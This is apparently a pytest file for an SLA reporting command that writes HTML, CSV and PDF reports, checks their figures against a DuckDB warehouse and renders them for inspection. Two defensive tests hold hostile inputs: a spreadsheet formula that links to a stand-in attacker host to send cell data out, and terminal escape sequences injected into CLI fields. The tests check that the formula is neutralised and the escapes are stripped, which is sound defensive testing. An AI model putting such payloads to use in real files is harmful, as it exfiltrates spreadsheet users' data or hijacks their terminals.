"""`slm report` (issue 8): one report a finance reader understands, in HTML, CSV and PDF, checked
as a person would see it: the PDF rendered to PNG pages (pdftoppm), the HTML opened in headless
Chromium. Both tools are installed by `make test` where it can (Debian, root); elsewhere those
two tests are skipped with the reason shown."""

import csv
import shutil
import subprocess
from decimal import Decimal
from html.parser import HTMLParser

import duckdb
import pytest
from click.testing import CliRunner

from pipelines.cli import main
from pipelines.reports.sla import write_report


@pytest.fixture(scope="module")
def reports(scenario_run, tmp_path_factory):
    settings, outcome, _ = scenario_run
    assert outcome.success
    out = tmp_path_factory.mktemp("reports")
    paths = write_report(settings, "2026-10", ["html", "csv", "pdf"], out)
    return settings, {p.suffix[1:]: p for p in paths}


def compliance(settings):
    with duckdb.connect(str(settings.warehouse), read_only=True) as con:
        cur = con.execute("select contract_name, credit_amount, currency, attained_pct from marts.fct_sla_compliance "
                          "where period_start = '2026-10-01' order by contract_name")
        return cur.fetchall()


def sli_days(settings, slo):
    with duckdb.connect(str(settings.warehouse), read_only=True) as con:
        return con.execute("select count(*) from marts.fct_sli_daily where slo_name = ? and day >= '2026-10-01' "
                           "and day < '2026-11-01'", [slo]).fetchone()[0]


def test_the_csv_has_one_row_per_contract_matching_the_mart(reports):
    settings, paths = reports
    rows = list(csv.DictReader(paths["csv"].open()))
    expected = compliance(settings)
    assert [r["contract"] for r in rows] == [e[0] for e in expected] == ["acme", "strict"]
    for r, (name, credit, currency, attained) in zip(rows, expected):
        assert (Decimal(r["credit_amount"]), r["currency"]) == (credit, currency)
        assert float(r["attained_pct"]) == pytest.approx(attained)
    by = {r["contract"]: r for r in rows}
    # acme honours the maintenance exclusion of 10-01 02:00-03:00; strict honours none
    assert (by["acme"]["exclusions_applied"], by["strict"]["exclusions_applied"]) == ("1", "0")
    assert by["strict"]["credit_amount"] == "308.65" and by["strict"]["breached"] == "True"


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.polylines, self.text, self.svgs, self.bars, self.markers = [], [], [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        attrs = dict(attrs)
        if tag == "polyline":
            self.polylines.append(attrs)
        if tag == "svg":
            self.svgs.append(attrs["class"])
        if tag == "rect" and "data-day" in attrs:
            self.bars.append(attrs)
        if tag == "g" and attrs.get("class") == "annotation":
            self.markers.append(attrs)

    def handle_data(self, data):
        self.text.append(data)


def test_the_html_has_the_summary_charts_and_evidence(reports):
    settings, paths = reports
    page = _Collect()
    page.feed(paths["html"].read_text())
    text = " ".join(page.text)
    # the executive summary: both contracts and the credits due (EUR 308.65 for strict, acme none)
    assert "Executive summary" in text and "2 contract(s), 1 breached" in text and "308.65 EUR" in text
    # per contract: the daily SLI chart (one point per October day of web-availability) and the
    # budget burn-down, with a target line
    days = sli_days(settings, "web-availability")
    assert page.svgs == ["chart line", "chart line", "chart bars"] * 2
    assert [int(p["data-points"]) for p in page.polylines][::2] == [days, days]
    # where the budget went: each day's stacked bars add up to that day's raw bad events (total -
    # good of fct_sli_daily), both contracts being on web-availability
    with duckdb.connect(str(settings.warehouse), read_only=True) as con:
        bad = dict(con.execute("select cast(day as varchar), total_events - good_events from marts.fct_sli_daily "
                               "where slo_name = 'web-availability' and day >= '2026-10-01' and day < '2026-11-01' "
                               "and total_events > good_events").fetchall())
    stacked = {}
    for rect in page.bars[:len(page.bars) // 2]:
        stacked[rect["data-day"]] = stacked.get(rect["data-day"], 0) + float(rect["data-bad"])
    assert bad and stacked == pytest.approx(bad)
    assert "Where the budget went" in text
    # the exclusion applied to acme, with its reason and approver
    assert "Database upgrade" in text and "change-board" in text and "CHG-1" in text
    assert page.tags.count("table") >= 2


def _ink(png_path) -> float:
    from PIL import Image

    img = Image.open(png_path).convert("L")
    return sum(img.histogram()[:200]) / (img.width * img.height)  # share of pixels darker than light grey


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm (poppler-utils) is not installed")
def test_every_pdf_page_renders_with_content(reports, tmp_path):
    _, paths = reports
    subprocess.run(["pdftoppm", "-r", "50", "-png", str(paths["pdf"]), str(tmp_path / "page")], check=True)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == 3  # the executive summary, then one page per contract
    for page in pages:
        assert _ink(page) > 0.005, page.name  # text, tables and charts: not a blank page
    text = subprocess.run(["pdftotext", str(paths["pdf"]), "-"], capture_output=True, text=True, check=True).stdout
    assert "308.65 EUR" in text and "Database upgrade" in text
    # where the budget went: web-availability's 7 bad events of 10-01 all fell in the maintenance
    # window of 02:00-03:00, which is also the chart's one annotation
    assert text.count("7 bad events: excluded 7 (100.0 %), incident 0 (0.0 %), deploy 0 (0.0 %), unattributed 0 (0.0 %).") == 2


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed")
def test_the_html_opens_in_headless_chromium_with_its_charts_and_tables(reports, tmp_path):
    _, paths = reports
    flags = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
             f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run(flags + ["--dump-dom", paths["html"].as_uri()], capture_output=True, text=True,
                         timeout=120, check=True).stdout
    assert dom.count("<svg") == 6 and dom.count("<polyline") == 4 and dom.count("<table") >= 2
    shot = tmp_path / "report.png"
    subprocess.run(flags + [f"--screenshot={shot}", "--window-size=1000,2400", paths["html"].as_uri()],
                   capture_output=True, timeout=120, check=True)
    assert _ink(shot) > 0.01  # it drew text, tables and lines


def test_report_command_and_its_errors(scenario_run, tmp_path):
    settings, _, _ = scenario_run
    runner = CliRunner()
    home = ["--home", str(settings.home)]
    ok = runner.invoke(main, ["report", "--period", "2026-10", "--format", "csv", "--out", str(tmp_path), *home])
    assert ok.exit_code == 0, ok.output
    assert (tmp_path / "sla-report-2026-10.csv").exists() and not (tmp_path / "sla-report-2026-10.pdf").exists()
    bad = runner.invoke(main, ["report", "--period", "2026-10", "--format", "docx", *home])
    assert bad.exit_code == 1 and "choose from html, csv, pdf" in bad.output and "Traceback" not in bad.output
    month = runner.invoke(main, ["report", "--period", "2026-13", *home])
    assert month.exit_code == 1 and "not YYYY-MM" in month.output
    empty = runner.invoke(main, ["report", "--period", "2026-10", "--home", str(tmp_path / "nothing")])
    assert empty.exit_code == 1 and "run the pipeline first" in empty.output


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(scenario_copy, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    with duckdb.connect(str(scenario_copy.warehouse)) as con:
        con.execute("update marts.fct_sla_compliance set customer = ? where contract_name = 'acme'", [formula])
        con.execute("update marts.fct_sla_compliance set customer = '@SUM(1+1)' where contract_name = 'strict'")
    [path] = write_report(scenario_copy, "2026-10", ["csv"], tmp_path)
    rows = {r["contract"]: r for r in csv.DictReader(path.open())}
    assert rows["acme"]["customer"] == "'" + formula and rows["strict"]["customer"] == "'@SUM(1+1)"
    assert rows["strict"]["credit_amount"] == "308.65"  # numbers are left as they are


def test_snapshot_show_and_list_drop_terminal_control_characters(scenario_copy):
    runner, home = CliRunner(), ["--home", str(scenario_copy.home)]
    env = {"SLM_CATALOG": str(scenario_copy.catalog), "SLM_LANDING": scenario_copy.landing}
    assert runner.invoke(main, ["snapshot", "create", "--period", "2026-10", *home], env=env).exit_code == 0
    held = runner.invoke(main, ["snapshot", "hold", "000001-2026-10", "--reason", "matter \x1b[2J\x1b[31m17\x07",
                                "--by", "eve\x1b]0;pwned\x07", *home])
    assert held.exit_code == 0 and "\x1b" not in held.output
    shown = runner.invoke(main, ["snapshot", "show", "000001-2026-10", *home])
    assert "by eve]0;pwned: matter [2J[31m17" in shown.stderr and "\x1b" not in shown.stderr + shown.stdout
